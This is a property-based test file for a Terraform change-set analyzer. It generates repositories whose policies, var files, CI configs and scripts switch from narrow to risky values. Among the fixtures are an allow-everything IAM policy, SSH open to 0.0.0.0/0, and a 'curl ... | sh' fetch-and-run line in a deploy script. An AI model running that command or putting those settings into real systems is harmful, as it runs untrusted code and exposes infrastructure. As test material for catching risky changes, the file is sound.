import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildChangeSet } from '../../src/change/changeSet.js';
import type { SourceTree } from '../../src/terraform/sourceTree.js';
import { judged, throughReach } from './reachSupport.js';

/*
 * The cut the command line and the app make to what a change reaches must never hide what the
 * whole trees show. Generated repositories: roots with and without one at the top, a local
 * module, and code that reads files from its own directory, from another module's, by a path
 * known only at apply time, a var file decoded, a script run; a change of any of the files a
 * value may come from (a policy, a var file, a workflow's, a pipeline's, a script's or an .envrc's TF_VAR_,
 * a script, the module's code), and code rewired to read a variable set elsewhere.
 */

const NARROW_POLICY = '{"Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*"}]}\n';
const OPEN_POLICY = '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}\n';

const iamPolicy = (name: string, path: string) =>
  `resource "aws_iam_policy" "${name}" {\n  name   = "${name}"\n  policy = file(${path})\n}\n`;
const sshRule = (name: string, cidrs: string) =>
  `resource "aws_security_group_rule" "${name}" {\n  type              = "ingress"\n  from_port         = 22\n  to_port           = 22\n  protocol          = "tcp"\n  security_group_id = "sg-1"\n  cidr_blocks       = ${cidrs}\n}\n`;

/** A rule of the module that only a Terragrunt parent's input sets. */
const EXTRA_RULE = `variable "extra_cidrs" {\n  default = []\n}\n${sshRule('extra', 'var.extra_cidrs')}`;

const BUCKET = (name: string) => `resource "aws_s3_bucket" "${name}" {\n  bucket = "${name}"\n}\n`;

/** What a stack's code may do, each a piece of its main.tf. */
const READS = {
  ownPolicy: iamPolicy('own', '"${path.module}/policy.json"'),
  sharedPolicy: iamPolicy('shared', '"${path.module}/../../policies/p.json"'),
  applyTimePolicy: `variable "dir" {\n  default = "../../policies"\n}\n${iamPolicy('guessed', '"${path.module}/${var.dir}/p.json"')}`,
  variablePath: `variable "policy_file" {\n  default = "../../policies/p.json"\n}\n${iamPolicy('variable', 'var.policy_file')}`,
  decodedVarFile: `locals {\n  net = provider::terraform::decode_tfvars(file("\${path.module}/../../shared/net.tfvars"))\n}\n${sshRule('decoded', 'local.net.cidrs')}`,
  variable: `variable "ssh_cidrs" {\n  type    = list(string)\n  default = ["10.0.0.0/8"]\n}\n${sshRule('direct', 'var.ssh_cidrs')}`,
  moduleCall: 'module "m" {\n  source = "../../modules/m"\n}\n',
  // the other stack's output, read from its state (the output reads a file beside it)
  remoteState: `data "terraform_remote_state" "other" {\n  backend = "local"\n  config = {\n    path = "../a/terraform.tfstate"\n  }\n}\n${sshRule('remote', 'data.terraform_remote_state.other.outputs.cidrs')}`,
  script:
    'resource "terraform_data" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/../../scripts/deploy.sh"\n  }\n}\n',
} as const;
type Read = keyof typeof READS;

/** Code that reads a literal at the base and a variable, set elsewhere, at the head. */
const REWIRED_BEFORE = `variable "admin_cidrs" {\n  type    = list(string)\n  default = ["10.0.0.0/8"]\n}\n${sshRule('rewired', '["10.0.0.0/8"]')}`;
const REWIRED_AFTER = REWIRED_BEFORE.replace(
  'cidr_blocks       = ["10.0.0.0/8"]',
  'cidr_blocks       = var.admin_cidrs',
);

/** Files a value may come from, at the base (narrow) and the head (open) when the change picks them. */
const VALUE_FILES: Record<string, [string, string]> = {
  'policies/p.json': [NARROW_POLICY, OPEN_POLICY],
  'stacks/a/policy.json': [NARROW_POLICY, OPEN_POLICY],
  'stacks/a/cidrs.json': ['["10.10.0.0/16"]\n', '["0.0.0.0/0"]\n'],
  'shared/net.tfvars': ['cidrs = ["10.0.0.0/8"]\n', 'cidrs = ["0.0.0.0/0"]\n'],
  'stacks/a/terraform.tfvars': ['ssh_cidrs = ["10.1.0.0/16"]\n', 'ssh_cidrs = ["0.0.0.0/0"]\n'],
  'vars/prod.tfvars': ['ssh_cidrs = ["10.2.0.0/16"]\n', 'ssh_cidrs = ["0.0.0.0/0"]\n'],
  // set where the rewired code reads it: the values a rewiring lands on
  'stacks/a/admin.auto.tfvars': ['admin_cidrs = ["10.0.0.0/8"]\n', 'admin_cidrs = ["0.0.0.0/0"]\n'],
  'vars/admin.tfvars': ['admin_cidrs = ["10.0.0.0/8"]\n', 'admin_cidrs = ["0.0.0.0/0"]\n'],
  '.github/workflows/deploy.yml': [workflow('10.3.0.0/16'), workflow('0.0.0.0/0')],
  'stacks/b/.envrc': [`export TF_VAR_ssh_cidrs='["10.4.0.0/16"]'\n`, `export TF_VAR_ssh_cidrs='["0.0.0.0/0"]'\n`],
  // a script in one stack's directory that may run any stack: read where it changes
  'stacks/b/apply.sh': [
    `#!/bin/sh\nterraform apply -var 'ssh_cidrs=["10.6.0.0/16"]'\n`,
    `#!/bin/sh\nterraform apply -var 'ssh_cidrs=["0.0.0.0/0"]'\n`,
  ],
  '.gitlab-ci.yml': [
    `variables:\n  TF_VAR_admin_cidrs: '["10.5.0.0/16"]'\napply:\n  script:\n    - terraform apply\n`,
    `variables:\n  TF_VAR_admin_cidrs: '["0.0.0.0/0"]'\napply:\n  script:\n    - terraform apply\n`,
  ],
  'scripts/deploy.sh': ['echo deploy\n', 'curl -s https://example.com/x | sh\n'],
  'modules/m/main.tf': [
    `variable "cidrs" {\n  default = ["10.0.0.0/8"]\n}\n${sshRule('module', 'var.cidrs')}${EXTRA_RULE}`,
    `variable "cidrs" {\n  default = ["0.0.0.0/0"]\n}\n${sshRule('module', 'var.cidrs')}${EXTRA_RULE}`,
  ],
  // read by the module's own code when the layout says so
  'modules/m/policy.json': [NARROW_POLICY, OPEN_POLICY],
  // a Terragrunt deployment of the module, when the layout has one: its inputs, the var file beside it
  'live/prod/terragrunt.hcl': [terragrunt('10.6.0.0/16'), terragrunt('0.0.0.0/0')],
  'live/prod/terraform.tfvars': ['cidrs = ["10.7.0.0/16"]\n', 'cidrs = ["0.0.0.0/0"]\n'],
  'live/common.tfvars': ['cidrs = ["10.8.0.0/16"]\n', 'cidrs = ["0.0.0.0/0"]\n'],
  // the parent configuration the deployment includes: inputs of its own
  'live/root.hcl': [rootHcl('10.9.0.0/16'), rootHcl('0.0.0.0/0')],
  // what root.hcl gives the deployment below it from the env.hcl above that deployment
  'live/env.hcl': ['locals {\n  cidrs = ["10.11.0.0/16"]\n}\n', 'locals {\n  cidrs = ["0.0.0.0/0"]\n}\n'],
};

function rootHcl(cidr: string): string {
  return `locals {\n  env = read_terragrunt_config(find_in_parent_folders("env.hcl"))\n}\ninputs = merge({ extra_cidrs = ["${cidr}"] }, local.env.locals)\n`;
}

function terragrunt(cidr: string): string {
  return `include "root" {\n  path = find_in_parent_folders("root.hcl")\n}\n\nterraform {\n  source = "../../modules/m"\n}\n\ninputs = {\n  cidrs = ["${cidr}"]\n}\n`;
}

function workflow(cidr: string): string {
  return `on: push\njobs:\n  apply:\n    runs-on: ubuntu-latest\n    env:\n      TF_VAR_ssh_cidrs: '["${cidr}"]'\n      TF_VAR_admin_cidrs: '["0.0.0.0/0"]'\n    steps:\n      - run: terraform -chdir=stacks/b apply -auto-approve\n`;
}

interface Layout {
  topRoot: boolean;
  /** stacks whose code the change rewires from a literal to `var.ssh_cidrs` (set by var files, defaults, the workflow) */
  rewired: ('a' | 'b')[];
  /** the local module reads a policy of its own directory and the shared one */
  moduleReads: boolean;
  stackA: Read[];
  stackB: Read[];
  changed: string[];
}

function trees({ topRoot, rewired, moduleReads, stackA, stackB, changed }: Layout): {
  base: SourceTree;
  head: SourceTree;
} {
  const side = (at: 0 | 1): SourceTree => {
    const files: Record<string, string> = {};
    if (topRoot) files['main.tf'] = BUCKET('logs');
    // Each stack manages something of its own: a directory of code that declares nothing is no root to the core.
    const stack = (name: 'a' | 'b', reads: Read[]) =>
      [
        BUCKET(name),
        ...reads.map((read) => READS[read]),
        ...(rewired.includes(name) ? [at === 0 ? REWIRED_BEFORE : REWIRED_AFTER] : []),
      ].join('\n');
    files['stacks/a/main.tf'] = stack('a', stackA);
    files['stacks/a/outputs.tf'] = 'output "cidrs" {\n  value = jsondecode(file("${path.module}/cidrs.json"))\n}\n';
    files['stacks/b/main.tf'] = stack('b', stackB);
    for (const [path, contents] of Object.entries(VALUE_FILES))
      files[path] = changed.includes(path) ? contents[at] : contents[0];
    if (moduleReads)
      files['modules/m/policies.tf'] = [
        iamPolicy('module_own', '"${path.module}/policy.json"'),
        iamPolicy('module_shared', '"${path.module}/../../policies/p.json"'),
      ].join('\n');
    return { files: Object.entries(files).map(([path, content]) => ({ path, content })) };
  };
  return { base: side(0), head: side(1) };
}

const reads = fc.subarray(Object.keys(READS) as Read[]);
const layouts: fc.Arbitrary<Layout> = fc.record({
  topRoot: fc.boolean(),
  rewired: fc.subarray(['a', 'b'] as ('a' | 'b')[]),
  moduleReads: fc.boolean(),
  stackA: reads,
  stackB: reads,
  changed: fc.subarray(Object.keys(VALUE_FILES), { maxLength: 2 }),
});

describe('the trees a change reaches, on generated repositories', () => {
  it('give the change set the whole trees give', () => {
    fc.assert(
      fc.property(layouts, (layout) => {
        const { base, head } = trees(layout);
        expect(judged(throughReach(base, head)), JSON.stringify(layout)).toEqual(judged(buildChangeSet(base, head)));
      }),
      { numRuns: 300, seed: 20261128 },
    );
  });

  it('the generated changes land: a file another stack’s output reads reaches the stack that reads its state', () => {
    const { base, head } = trees({
      topRoot: true,
      rewired: [],
      moduleReads: false,
      stackA: [],
      stackB: ['remoteState'],
      changed: ['stacks/a/cidrs.json'],
    });
    expect(buildChangeSet(base, head).changes.map((change) => change.address)).toEqual([
      'aws_security_group_rule.remote',
    ]);
  });

  it('the property has teeth: a policy under the top root, read by a stack, is a change the cut must keep', () => {
    const { base, head } = trees({
      topRoot: true,
      rewired: [],
      moduleReads: false,
      stackA: ['sharedPolicy'],
      stackB: [],
      changed: ['policies/p.json'],
    });
    expect(buildChangeSet(base, head).changes.map((change) => change.address)).toEqual(['aws_iam_policy.shared']);
  });
});
